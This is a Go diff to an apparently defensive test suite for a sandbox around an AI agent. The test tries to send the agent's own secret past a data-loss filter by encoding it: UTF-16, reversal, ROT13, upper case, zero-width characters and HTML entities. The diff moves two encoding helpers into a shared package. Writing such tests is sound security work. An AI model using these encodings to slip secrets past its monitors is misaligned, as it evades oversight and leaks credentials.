@@ -8,6 +8,8 @@ import (
 	"strings"
 	"testing"
 	"unicode/utf16"
+
+	"github.com/claude-bottle/claude-bottle/internal/secretenc"
 )
 
 // attackTransforms: issue 15 #9, the agent's own secret in one request
@@ -48,8 +50,8 @@ func (b *bottle) attackTransforms(t *testing.T) {
 	}
 	cases := []tc{
 		{"utf-16le body", "dlp.known-secret", []string{"--data-binary", "@/tmp/esc-u16", u + "/b"}},
-		{"reversed in query", "dlp.known-secret", []string{u + "/q?d=" + reverseString(v)}},
-		{"rot13 in header", "dlp.known-secret", []string{"-H", "X-Data: " + rot13String(v), u + "/h"}},
+		{"reversed in query", "dlp.known-secret", []string{u + "/q?d=" + secretenc.Reverse(v)}},
+		{"rot13 in header", "dlp.known-secret", []string{"-H", "X-Data: " + secretenc.ROT13(v), u + "/h"}},
 		{"upper case in body", "dlp.known-secret", []string{"--data-binary", strings.ToUpper(v), u + "/b"}},
 		{"zero-width inside", "dlp.known-secret", []string{"--data-binary", strings.Join(strings.Split(v, ""), "\u200b"), u + "/b"}},
 		{"html entities", "dlp.known-secret", []string{"--data-binary", ent.String(), u + "/b"}},
@@ -84,24 +86,4 @@ func (b *bottle) attackTransforms(t *testing.T) {
 			t.Errorf("ESCAPE the echo upstream received half the secret: %+v", h)
 		}
 	}
-}
-
-func reverseString(s string) string {
-	b := []byte(s)
-	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
-		b[i], b[j] = b[j], b[i]
-	}
-	return string(b)
-}
-
-func rot13String(s string) string {
-	return strings.Map(func(r rune) rune {
-		switch {
-		case r >= 'a' && r <= 'z':
-			return 'a' + (r-'a'+13)%26
-		case r >= 'A' && r <= 'Z':
-			return 'A' + (r-'A'+13)%26
-		}
-		return r
-	}, s)
 }
